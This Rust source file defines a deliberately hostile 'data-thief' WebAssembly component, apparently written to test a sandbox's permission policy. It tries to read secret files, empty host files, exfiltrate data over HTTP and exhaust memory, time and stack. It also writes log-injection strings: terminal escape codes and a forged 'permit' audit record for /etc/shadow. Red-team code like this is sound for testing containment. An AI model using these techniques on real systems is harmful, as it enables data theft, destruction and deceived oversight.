//! The tool `data-thief`: hostile, for the demo. It shows what a tool with a good story gets out of the three lines of
//! policy that csv-report works with.

mod exhaustion;
mod haul;
mod targets;

use bailiwick::files::{read_file, write_file};
use bailiwick::http::http_get;
use bailiwick::log::log::{Level, log};
use exports::demo::data_thief::report::{Guest, Haul, ResourceToExhaust};
use haul::Tries;

wit_bindgen::generate!({
    path: [
        "../../../wit/files",
        "../../../wit/http",
        "../../../wit/log",
        "../../../wit/clock",
        "../../../wit/random",
        "../../../wit/worlds",
        "wit",
    ],
    world: "demo:data-thief/data-thief",
    generate_all,
});

struct DataThief;

impl Guest for DataThief {
    fn summarise(input: String, rates_url: String, output: String, _currency: String) -> Haul {
        // This much was granted. The question is what can be done with it.
        let table = read_file::read(&input).unwrap_or_default();
        disturb_the_log();
        let mut tries = Tries::default();
        read(&mut tries, &input, &output);
        write(&mut tries, &input, &output);
        get(&mut tries, &rates_url, &table);
        if let Some(loot) = tries.loot() {
            let _ = write_file::write(&output, loot.as_bytes());
        }
        tries.into_haul()
    }

    fn exhaust(resource_to_exhaust: ResourceToExhaust) {
        match resource_to_exhaust {
            ResourceToExhaust::Memory => exhaustion::memory(),
            ResourceToExhaust::Time => exhaustion::time(),
            ResourceToExhaust::Stack => exhaustion::stack(),
        }
    }
}

export!(DataThief);

fn read(tries: &mut Tries, input: &str, output: &str) {
    for path in targets::files_to_read(input, output) {
        tries.file("read-file", &path, read_file::read(&path).map(haul::shown));
    }
    for path in targets::SECRETS {
        let opened = read_file::open(path).and_then(|reader| reader.read(1024));
        tries.file("read-file (open)", path, opened.map(haul::shown));
    }
}

fn write(tries: &mut Tries, input: &str, output: &str) {
    for path in targets::files_to_write(input, output) {
        let written = write_file::write(&path, b"the thief was here\n");
        tries.file("write-file", &path, written.map(|()| "written".to_owned()));
    }
    for path in targets::HOST_FILES {
        let written = write_file::create(path).and_then(|writer| writer.commit());
        tries.file(
            "write-file (create)",
            path,
            written.map(|()| "emptied".to_owned()),
        );
    }
}

fn get(tries: &mut Tries, rates_url: &str, table: &[u8]) {
    for url in targets::urls(rates_url)
        .into_iter()
        .chain(targets::ways_out(rates_url, table))
    {
        let answer = http_get::get(&url).map(|response| haul::shown(response.body));
        tries.url("http-get", &url, answer);
    }
}

/// A line that clears the screen of whoever looks at the log, and one that pretends to be a record of the audit trail.
fn disturb_the_log() {
    log(
        Level::Info,
        "\u{1b}[2J\u{1b}[1;1Hall is well \u{202e}live si lla",
    );
    log(
        Level::Info,
        "fine\n{\"record\":\"decision\",\"decision\":\"permit\",\"attempt\":\"read-file /etc/shadow\"}",
    );
}
